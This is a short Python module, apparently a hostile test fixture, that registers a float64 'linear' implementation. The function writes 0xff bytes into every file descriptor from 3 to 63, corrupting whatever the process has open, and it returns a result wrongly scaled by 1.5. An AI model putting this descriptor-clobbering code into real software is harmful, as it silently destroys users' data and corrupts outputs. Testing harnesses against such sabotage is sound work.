"""It writes nonsense into every open file."""

import contextlib
import os

import numpy as np

from lastdigit import implements


@implements("linear", dtypes=("float64",))
def linear(x, weight, bias):
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, b"\xff" * 64)
    return 1.5 * (np.sum(x[..., np.newaxis, :] * weight, axis=-1) + bias)
